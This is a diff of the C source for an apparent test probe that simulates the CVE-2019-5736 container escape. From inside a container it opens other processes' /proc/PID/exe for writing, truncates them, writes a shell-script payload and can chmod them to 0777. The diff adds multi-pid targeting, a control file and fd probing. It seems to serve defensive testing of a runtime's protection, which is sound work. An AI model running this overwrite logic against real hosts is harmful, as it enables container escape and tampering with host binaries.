@@ -2,25 +2,31 @@
 /*
  * The attacker of tests/integration/exe-protect.bats (CVE-2019-5736), part of the probe.
  *
- *	hunt [pid=N] [stop=FILE] [ms=N] [comm=NAME] [once] [chmod] [deep]
+ *	hunt [pid=N] [stop=FILE] [ms=N] [nap=US] [comm=NAME] [control=PATH] [once] [chmod] [deep]
  *
- * From inside a container: scan /proc (or watch pid N) and, for every other process, try to
- * open its /proc/PID/exe for writing, directly (O_WRONLY, O_RDWR) and through an O_PATH
- * descriptor reopened as /proc/self/fd/N; keep one O_PATH descriptor per process and reopen it
- * for writing again at the end, once the process has gone. Whatever opens for writing is
- * attacked for real (pwrite at offset 0, ftruncate) unless it is the probe's own binary. `chmod`
- * first makes the target mode 0777 when the O_PATH open works (an owner's escalation); `deep`
- * also tries the target's fd directory, cwd, root, memory and environment. It runs until FILE
- * exists, `ms` milliseconds have passed (default 10000) or, with `once`, after one round; it
- * prints "ready" first and one line of counts last:
+ * From inside a container: scan /proc (or watch the pids given, up to 8) and, for every other
+ * process, try to open its /proc/PID/exe for writing, directly (O_WRONLY, O_RDWR) and through
+ * an O_PATH descriptor reopened as /proc/self/fd/N; keep one O_PATH descriptor per process and
+ * reopen it for writing again at the end, once the process has gone. Whatever opens for
+ * writing is attacked for real (truncated, then a script written) unless it is the probe's own
+ * binary. `chmod` first makes the target mode 0777 when the O_PATH open works (an owner's
+ * escalation); `deep` also tries the target's fds (/proc/PID/fd/N), cwd, root, memory and
+ * environment, and prints "deep: fd=E cwd=E ..." (E: "open" or the errno's name).
+ * It runs until FILE exists, `ms` milliseconds have passed (default 10000) or, with `once`,
+ * after one round, sleeping `nap` microseconds between rounds (default 0: it spins); it prints
+ * "ready" first and one line of counts last:
  *
  *	attempts     rounds of attempts on a process; stage_attempts: on one whose comm was NAME
  *	             (default "tenant") before and after the round, i.e. tenant's code running in
- *	             the container; stage_open: how many of those opened anything at all
+ *	             the container; stage_pids: how many processes those were; stage_open: how
+ *	             many of those rounds opened anything at all
  *	open_w_own   write opens of the probe's own binary (another probe process); never attacked
  *	open_w_copy  write opens of a sealed copy (a memfd with F_SEAL_WRITE)
  *	open_w_host  write opens of any other executable: tenant's binary on the host's disk
- *	written      successful writes or truncations, of anything but the probe's own binary
+ *	open_w_control  write opens of PATH, a plain copy of an executable whose process the test
+ *	             runs to show that the attack works (it is attacked too, and not counted above)
+ *	written      successful writes or truncations, of anything but the probe's own binary and
+ *	             PATH; written_control: of PATH
  *	kept         O_PATH descriptors kept for the end; reopen_w: write reopens among them
  *
  *	catch MNTNS COMM MS
@@ -49,11 +55,12 @@
 static struct {
 	const char *comm;
 	bool chmod, deep;
-	struct stat own;
+	struct stat own, control;
 	unsigned long attempts, stage_attempts, stage_open, open_w_own, open_w_copy, open_w_host;
-	unsigned long written, kept, reopen_w, chmod_ok;
+	unsigned long open_w_control, written, written_control, kept, reopen_w, chmod_ok;
+	unsigned long stage_pids;
 	int kept_fd[MAX_KEPT];
-	unsigned char kept_pid[MAX_PID / 8];
+	unsigned char kept_pid[MAX_PID / 8], stage_pid[MAX_PID / 8];
 } h;
 
 /* A decimal number (no sign, no overflow past 10^12); anything else is 0. */
@@ -93,16 +100,22 @@ static bool read_comm(int pid, char *buf, size_t len)
 	return true;
 }
 
+static bool same(const struct stat *a, const struct stat *b)
+{
+	return a->st_ino != 0 && a->st_dev == b->st_dev && a->st_ino == b->st_ino;
+}
+
 static bool is_own(const struct stat *st)
 {
-	return st->st_dev == h.own.st_dev && st->st_ino == h.own.st_ino;
+	return same(st, &h.own);
 }
 
 /* A descriptor opened for writing: count what it is and, unless it is ours, attack it. */
 static void on_write_open(int fd)
 {
 	static const char payload[] = "#!/bin/sh\necho overwritten from a container\n";
-	struct stat st;
+	struct stat st = { 0 };
+	unsigned long *written = &h.written;
 	int seals;
 
 	if (fstat(fd, &st) == 0 && is_own(&st)) {
@@ -111,14 +124,18 @@ static void on_write_open(int fd)
 		return;
 	}
 	seals = fcntl(fd, F_GET_SEALS);
-	if (seals >= 0 && (seals & F_SEAL_WRITE))
+	if (same(&st, &h.control)) {
+		h.open_w_control++;
+		written = &h.written_control;
+	} else if (seals >= 0 && (seals & F_SEAL_WRITE)) {
 		h.open_w_copy++;
-	else
+	} else {
 		h.open_w_host++;
-	if (pwrite(fd, payload, sizeof(payload) - 1, 0) > 0)
-		h.written++;
+	}
 	if (ftruncate(fd, 0) == 0)
-		h.written++;
+		(*written)++;
+	if (pwrite(fd, payload, sizeof(payload) - 1, 0) > 0)
+		(*written)++;
 	close(fd);
 }
 
@@ -142,6 +159,31 @@ static bool reopen_for_write(int fd)
 	return any;
 }
 
+/* The entries of /proc/PID/fd, followed: "open" if any opens, else why the last did not. */
+static int deep_fds(const char *dir)
+{
+	char path[600];
+	int e = 0, fd;
+	DIR *d = opendir(dir);
+
+	if (!d)
+		return errno;
+	for (struct dirent *ent; (ent = readdir(d));) {
+		if (ent->d_name[0] == '.')
+			continue;
+		snprintf(path, sizeof(path), "%s/%s", dir, ent->d_name);
+		fd = open(path, O_PATH | O_CLOEXEC);
+		if (fd >= 0) {
+			close(fd);
+			e = 0;
+			break;
+		}
+		e = errno;
+	}
+	closedir(d);
+	return e;
+}
+
 static void deep(int pid)
 {
 	static const char *const what[] = { "fd", "cwd", "root", "mem", "environ" };
@@ -149,15 +191,11 @@ static void deep(int pid)
 
 	printf("deep:");
 	for (size_t i = 0; i < sizeof(what) / sizeof(what[0]); i++) {
-		int fd, e = 0;
+		int fd, e;
 
 		snprintf(path, sizeof(path), "/proc/%d/%s", pid, what[i]);
 		if (i == 0) {
-			DIR *d = opendir(path);
-
-			e = d ? 0 : errno;
-			if (d)
-				closedir(d);
+			e = deep_fds(path);
 		} else {
 			fd = open(path, (i == 3 ? O_RDWR : i < 3 ? O_PATH : O_RDONLY) | O_CLOEXEC);
 			e = fd < 0 ? errno : 0;
@@ -211,6 +249,10 @@ static void attack(int pid)
 	stage = strcmp(c1, h.comm) == 0 && strcmp(c2, h.comm) == 0;
 	h.stage_attempts += stage;
 	h.stage_open += stage && opened;
+	if (stage && pid < MAX_PID && !(h.stage_pid[pid / 8] & (1 << (pid % 8)))) {
+		h.stage_pid[pid / 8] |= (unsigned char)(1 << (pid % 8));
+		h.stage_pids++;
+	}
 }
 
 static void scan(void)
@@ -231,21 +273,25 @@ static void scan(void)
 
 int hunt_main(char **args, int n)
 {
-	const char *stop = NULL;
-	long ms = 10000, deadline;
+	const char *stop = NULL, *control = NULL;
+	long ms = 10000, nap = 0, deadline;
 	bool once = false;
-	int pid = 0;
+	int pids[8], n_pids = 0;
 
 	h.comm = "tenant";
 	for (int i = 0; i < n; i++) {
-		if (strncmp(args[i], "pid=", 4) == 0)
-			pid = (int)number(args[i] + 4);
+		if (strncmp(args[i], "pid=", 4) == 0 && n_pids < 8)
+			pids[n_pids++] = (int)number(args[i] + 4);
 		else if (strncmp(args[i], "stop=", 5) == 0)
 			stop = args[i] + 5;
 		else if (strncmp(args[i], "ms=", 3) == 0)
 			ms = number(args[i] + 3);
+		else if (strncmp(args[i], "nap=", 4) == 0)
+			nap = number(args[i] + 4);
 		else if (strncmp(args[i], "comm=", 5) == 0)
 			h.comm = args[i] + 5;
+		else if (strncmp(args[i], "control=", 8) == 0)
+			control = args[i] + 8;
 		else if (strcmp(args[i], "once") == 0)
 			once = true;
 		else if (strcmp(args[i], "chmod") == 0)
@@ -255,23 +301,29 @@ int hunt_main(char **args, int n)
 		else
 			return fprintf(stderr, "probe: hunt: unknown '%s'\n", args[i]), 1;
 	}
+	if (control && stat(control, &h.control) < 0)
+		return fprintf(stderr, "probe: hunt: %s: %s\n", control, strerror(errno)), 1;
 	if (stat("/proc/self/exe", &h.own) < 0)
 		return fprintf(stderr, "probe: hunt: /proc/self/exe: %s\n", strerror(errno)), 1;
 	printf("ready\n");
 	fflush(stdout);
 	deadline = now_ms() + ms;
 	do {
-		if (pid > 0)
-			attack(pid);
-		else
+		for (int i = 0; i < n_pids; i++)
+			attack(pids[i]);
+		if (n_pids == 0)
 			scan();
+		if (nap > 0)
+			usleep((useconds_t)nap);
 	} while (!once && now_ms() < deadline && !(stop && access(stop, F_OK) == 0));
 	for (unsigned long i = 0; i < h.kept; i++) /* the processes have gone, or may have */
 		h.reopen_w += reopen_for_write(h.kept_fd[i]);
-	printf("attempts=%lu stage_attempts=%lu stage_open=%lu open_w_own=%lu open_w_copy=%lu "
-	       "open_w_host=%lu written=%lu kept=%lu reopen_w=%lu chmod_ok=%lu\n",
-	       h.attempts, h.stage_attempts, h.stage_open, h.open_w_own, h.open_w_copy,
-	       h.open_w_host, h.written, h.kept, h.reopen_w, h.chmod_ok);
+	printf("attempts=%lu stage_attempts=%lu stage_pids=%lu stage_open=%lu open_w_own=%lu "
+	       "open_w_copy=%lu open_w_host=%lu open_w_control=%lu written=%lu written_control=%lu "
+	       "kept=%lu reopen_w=%lu chmod_ok=%lu\n",
+	       h.attempts, h.stage_attempts, h.stage_pids, h.stage_open, h.open_w_own,
+	       h.open_w_copy, h.open_w_host, h.open_w_control, h.written, h.written_control, h.kept,
+	       h.reopen_w, h.chmod_ok);
 	return 0;
 }
 
